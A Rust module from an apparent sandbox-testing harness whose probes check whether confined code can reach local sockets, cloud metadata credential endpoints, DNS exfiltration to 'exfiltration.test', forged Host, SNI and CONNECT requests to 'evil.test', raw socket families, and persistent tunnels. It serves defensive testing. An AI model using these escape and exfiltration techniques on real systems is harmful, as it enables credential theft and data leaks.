//! Attacks with sockets. Outside a cell, nothing here leaves the machine.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs as _, UdpSocket};
use std::os::fd::{AsFd as _, OwnedFd};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr as UnixAddr, UnixStream};
use std::process::Command;
use std::time::Duration;

use crate::attack::{AttackArguments, Probe};
use crate::raw::{call, in_child, sleeping_child};

/// The timeout for an answer. A service on this machine answers at once unless the machine is too busy; a refusal comes
/// at once.
const IO_TIMEOUT: Duration = Duration::from_secs(30);

pub(crate) fn unix(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let probe = |path: &str| {
        let place = if path.starts_with(arguments.text("out")) { "in a folder that it may write" } else { "elsewhere" };
        Probe::of(format!("a socket {place}"), UnixStream::connect(path).and_then(|stream| heard(arguments, stream)))
    };
    arguments.texts("sockets").map(probe).collect()
}

pub(crate) fn abstract_unix(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let stream =
        UnixAddr::from_abstract_name(arguments.text("abstract")).and_then(|name| UnixStream::connect_addr(&name));
    vec![Probe::of("an abstract socket", stream.and_then(|stream| heard(arguments, stream)))]
}

pub(crate) fn loopback(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let port = arguments.number("port");
    let probe = |host: &str| {
        let stream = connect(&format!("{host}:{port}"));
        Probe::of(format!("{host} of the machine"), stream.and_then(|stream| heard(arguments, stream)))
    };
    let hosts = ["127.0.0.1", "localhost", "0.0.0.0", "[::ffff:127.0.0.1]"];
    hosts.into_iter().chain(arguments.texts("addresses")).map(probe).collect()
}

pub(crate) fn metadata(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    if !arguments.caged() && arguments.number("service") == 0 {
        return Vec::new();
    }
    let hosts = [
        "169.254.169.254:80",
        "[fd00:ec2::254]:80",
        "169.254.170.2:80",
        "100.100.100.200:80",
        "metadata.google.internal:80",
    ];
    let get = "GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n";
    hosts.into_iter().map(|host| Probe::of(host, connect(host).and_then(|stream| answered(stream, get)))).collect()
}

pub(crate) fn dns(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let name = "c2VjcmV0.exfiltration.test";
    let mut probes = vec![Probe::of("a resolver of the machine", ask(arguments.text("udp"), name))];
    if arguments.caged() {
        let resolved =
            (name, 443).to_socket_addrs().and_then(|mut found| found.next().ok_or(io::ErrorKind::NotFound.into()));
        probes.push(Probe::of("the library's resolver", resolved));
        for server in ["127.0.0.1:53", "192.0.2.53:53", "[2001:db8::53]:53"] {
            probes.push(Probe::of(format!("the resolver at {server}"), ask(server, name)));
        }
    }
    probes
}

/// Asks a DNS server for the address of a name. A name that does not exist is an error, too.
fn ask(server: &str, name: &str) -> io::Result<()> {
    let server: SocketAddr = server.parse().map_err(io::Error::other)?;
    let socket = UdpSocket::bind(if server.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" })?;
    socket.set_read_timeout(Some(IO_TIMEOUT))?;
    let labels = name.split('.').flat_map(|label| [&[label.len().to_le_bytes()[0]], label.as_bytes()].concat());
    let mut question = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    question.extend(labels.chain([0, 0, 1, 0, 1]));
    socket.send_to(&question, server)?;
    let mut answer = [0; 512];
    let size = socket.recv(&mut answer)?;
    match answer.get(3).filter(|_| size > 3).map(|code| code & 0xf) {
        Some(0) => Ok(()),
        code => Err(io::Error::other(format!("answer {code:?}"))),
    }
}

pub(crate) fn forge(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let (plain, secure) = (arguments.text("forge"), arguments.text("forge_tls"));
    let get = |target: &str, host: &str| format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let web =
        |what: &str, to: &str, request: &str| Probe::of(what, connect(to).and_then(|stream| answered(stream, request)));
    let mut probes = vec![web("another `Host`", plain, &get("/", "evil.test"))];
    if !arguments.caged() {
        return probes;
    }
    if arguments.connected() {
        let resolved = plain.to_socket_addrs().map(Iterator::collect::<Vec<_>>);
        probes.push(Probe::new("NOT the name that is declared", resolved.is_err(), format!("{resolved:?}")));
    }
    probes.push(web("another host in the target", plain, &get("http://evil.test/", "evil.test")));
    probes.push(web(
        "a second request on the connection",
        plain,
        &[get("/", "evil.test"), get("/", "evil.test")].concat(),
    ));
    probes.push(web("no TLS at all", secure, &get("/", "evil.test")));
    probes.push(Probe::of(
        "another TLS server name",
        connect(secure).and_then(|stream| shake_hands(stream, "evil.test")),
    ));
    for target in ["evil.test:443", "127.0.0.1:22", "169.254.169.254:80", "[::1]:22", "2130706433:22"] {
        let request = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
        probes.push(web(&format!("CONNECT {target}"), "127.0.0.1:3128", &request));
    }
    for raw in ["127.0.0.1:80", "127.0.0.1:443", "192.0.2.1:443", "127.64.0.200:80"] {
        probes.push(web(&format!("the address {raw}"), raw, &get("/", "evil.test")));
    }
    probes
}

/// Succeeds if a server answers the request with anything but a refusal.
fn answered(mut stream: TcpStream, request: &str) -> io::Result<()> {
    stream.set_read_timeout(Some(IO_TIMEOUT))?;
    stream.write_all(request.as_bytes())?;
    let mut answer = [0; 64];
    let size = stream.read(&mut answer)?;
    let answer = String::from_utf8_lossy(answer.get(..size).unwrap_or_default()).into_owned();
    // 0x15 begins a TLS alert.
    match answer.starts_with("HTTP/1.1 4") || answer.starts_with('\u{15}') || answer.is_empty() {
        true => Err(io::Error::other(format!("refused: {:?}", answer.lines().next().unwrap_or_default()))),
        false => Ok(()),
    }
}

/// Sends a ClientHello with this server name. Succeeds, which is a leak, if the answer is a handshake record.
fn shake_hands(mut stream: TcpStream, name: &str) -> io::Result<()> {
    let byte = |length: usize| length.to_le_bytes()[0];
    let short = |length: usize| [length.to_le_bytes()[1], length.to_le_bytes()[0]];
    let entry = [&[0][..], &short(name.len()), name.as_bytes()].concat();
    let list = [&short(entry.len())[..], &entry].concat();
    let mut extensions = [&[0, 0][..], &short(list.len()), &list].concat();
    // Signature schemes, groups, versions: enough to be a ClientHello of TLS 1.3.
    extensions.extend([0, 13, 0, 4, 0, 2, 4, 3, 0, 10, 0, 4, 0, 2, 0, 29, 0, 43, 0, 3, 2, 3, 4]);
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.extend([0, 0, 2, 0x13, 1, 1, 0]);
    body.extend(short(extensions.len()));
    body.extend(extensions);
    let hello = [&[22, 3, 1][..], &short(body.len() + 4), &[1, 0], &short(body.len()), &body].concat();
    debug_assert_eq!(byte(hello.len() - 9), byte(body.len()));
    stream.set_read_timeout(Some(IO_TIMEOUT))?;
    stream.write_all(&hello)?;
    let mut first = [0];
    stream.read_exact(&mut first)?;
    if first == [22] { Ok(()) } else { Err(io::Error::other("refused by an alert")) }
}

pub(crate) fn families(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let mut probes = vec![Probe::of("a datagram to the machine's loopback", ask(arguments.text("udp"), "x"))];
    let stream = libc::SOCK_STREAM;
    for (what, family, kind, protocol) in [
        ("raw IP", libc::AF_INET, libc::SOCK_RAW, 1),
        ("packets", libc::AF_PACKET, libc::SOCK_RAW, 0),
        ("a virtual machine's host", libc::AF_VSOCK, stream, 0),
        ("the kernel's ciphers", libc::AF_ALG, libc::SOCK_SEQPACKET, 0),
        ("device events", libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_KOBJECT_UEVENT),
        ("the audit log", libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT),
        ("netfilter", libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER),
        ("Unix sockets", libc::AF_UNIX, stream, 0),
        ("IPsec keys", libc::AF_KEY, libc::SOCK_RAW, 2),
        ("Bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW, 1),
        ("TIPC", libc::AF_TIPC, stream, 0),
        ("CAN", libc::AF_CAN, libc::SOCK_RAW, 1),
        ("SCTP", libc::AF_INET, stream, libc::IPPROTO_SCTP),
        ("MPTCP", libc::AF_INET, stream, libc::IPPROTO_MPTCP),
    ] {
        let made = call(libc::SYS_socket, [family.into(), (kind | libc::SOCK_CLOEXEC).into(), protocol.into()]);
        if let Ok(socket) = made {
            // The socket was only a trial and is closed again.
            let _ = call(libc::SYS_close, [i32::try_from(socket).unwrap_or(-1).into()]);
        }
        probes.push(Probe::of(what, made));
    }
    probes
}

/// Creates Unix sockets of every kind that a number could name: single ones, and pairs with one end that could be
/// connected again.
pub(crate) fn unix_kinds(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let pair = |kind: i32| {
        let mut ends = [-1_i32; 2];
        call(libc::SYS_socketpair, [libc::AF_UNIX.into(), kind.into(), 0_i32.into(), (&mut ends).into()])?;
        ends.map(|end| call(libc::SYS_close, [end.into()])).into_iter().collect::<io::Result<Vec<_>>>()
    };
    let single = |kind: i32| {
        let made = call(libc::SYS_socket, [libc::AF_UNIX.into(), kind.into(), 0_i32.into()])?;
        call(libc::SYS_close, [i32::try_from(made).unwrap_or(-1).into()])
    };
    let all = || (0..16).flat_map(|kind| [0, libc::SOCK_CLOEXEC, libc::SOCK_NONBLOCK].map(|flags| (kind, flags)));
    let in_order = |kind: i32| [libc::SOCK_STREAM, libc::SOCK_SEQPACKET].contains(&kind);
    let singles: Vec<_> = all().filter(|(kind, flags)| single(kind | flags).is_ok()).collect();
    let (usual, others): (Vec<_>, Vec<_>) =
        all().filter(|(kind, flags)| pair(kind | flags).is_ok()).partition(|(kind, _)| in_order(*kind));
    let mut probes = vec![
        Probe::new("single ones", !singles.is_empty(), format!("{singles:?}")),
        Probe::new("pairs of datagrams", !others.is_empty(), format!("{others:?}")),
    ];
    if arguments.caged() {
        probes.push(Probe::new("NOT pairs of streams and of packets", usual.len() != 6, format!("{usual:?}")));
    }
    probes
}

/// Opens a tunnel and keeps it open after the call, and in a child after its own end.
pub(crate) fn tunnel(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let opened = connect(arguments.text("tunnel")).and_then(|mut stream| {
        stream.write_all(b"hello from the cell\n")?;
        stream.read_exact(&mut [0])?;
        std::mem::forget(stream);
        sleeping_child()
    });
    vec![Probe::of("a tunnel", opened)]
}

/// Makes many connections, each in a process that sends one byte and ends before it can be looked at.
pub(crate) fn race(arguments: &AttackArguments<'_>) -> Vec<Probe> {
    let say = || {
        connect(arguments.text("tunnel"))?.write_all(b"x")?;
        Ok(0)
    };
    let said = (0..arguments.number("race")).filter(|_| in_child(say).is_ok()).count();
    vec![Probe::new("connections", false, format!("{said} made"))]
}

/// The address at which a cloud serves the credentials of the machine.
const METADATA: &str = "169.254.169.254:80";

/// Starts the metadata service of a cloud, in a network namespace of its own, until this process ends.
pub(crate) fn metadata_service() {
    let started = TcpListener::bind(METADATA).and_then(|listener| {
        Command::new(std::env::current_exe()?).arg("answer").stdin(OwnedFd::from(listener)).spawn()
    });
    if let Err(error) = started {
        eprintln!("no service at {METADATA}: {error}");
        std::process::exit(1);
    }
}

/// Runs the metadata service, whose listening socket is its standard input.
pub(crate) fn answer() -> ! {
    let _ = rustix::process::set_parent_process_death_signal(Some(rustix::process::Signal::KILL));
    if let Ok(listener) = std::io::stdin().as_fd().try_clone_to_owned().map(TcpListener::from) {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0; 1024]);
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n");
        }
    }
    std::process::exit(1)
}

fn connect(to: &str) -> io::Result<TcpStream> {
    let address = to.to_socket_addrs()?.next().ok_or(io::ErrorKind::NotFound)?;
    TcpStream::connect_timeout(&address, IO_TIMEOUT)
}

/// Reads from a stream. Succeeds if it has the canary.
fn heard(arguments: &AttackArguments<'_>, stream: impl Read) -> io::Result<()> {
    let mut bytes = Vec::new();
    stream.take(256).read_to_end(&mut bytes)?;
    if arguments.is_in(&bytes) { Ok(()) } else { Err(io::Error::other("somebody else answers")) }
}
